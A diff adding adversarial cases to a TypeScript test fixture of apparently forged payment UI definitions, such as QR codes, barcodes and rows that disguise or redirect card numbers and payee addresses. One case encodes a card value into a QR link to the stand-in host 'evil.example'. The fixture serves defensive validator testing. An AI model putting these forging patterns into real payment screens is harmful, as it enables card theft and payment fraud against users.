@@ -58,6 +58,23 @@ export const FORGINGS: readonly Forging[] = [
     page: { local: { to: '' }, on: { enter: [{ do: 'set', name: 'to', value: MINE }] } },
   }),
   forged('a code of a literal', [{ type: 'qr', label: LABEL, value: 'upi:pay?pa=me' }]),
+  forged('a code of a payment address with a payee in it', [
+    { type: 'qr', label: LABEL, value: { cat: ['upi://pay?pa=me&pn=', CARD] } },
+  ]),
+  forged('a code of an address elsewhere', [
+    { type: 'qr', label: LABEL, value: { cat: ['https://evil.example/?pa=', CARD] } },
+  ]),
+  forged('digits between the pieces', [row({ chunk: [CARD, 4, '7'] })]),
+  forged('a number filled up with other digits', [row({ pad: [CARD, 19, '7'] })]),
+  forged('digits put to each of the rows', [
+    row({ join: [{ map: [{ var: 'deposit.data.rows' }, { cat: ['7', { var: 'value' }] }] }] }),
+  ]),
+  forged('a card that is the default of a row', [
+    row({ join: [{ map: [{ var: 'deposit.data.rows' }, { var: ['number', MINE] }] }] }),
+  ]),
+  forged('entries of what is no answer', [
+    { type: 'list', each: { entries: [{ var: 'route.query' }] }, key: 'key', body: [row({ var: 'item.value' })] },
+  ]),
   forged('bars of a literal', [{ type: 'barcode', label: LABEL, value: MINE, format: 'code128' }]),
   forged('a copied literal', [{ type: 'button', label: LABEL, onPress: [{ do: 'copy', value: MINE }] }]),
   forged('a sum that the page picks', [words('Hello')], {
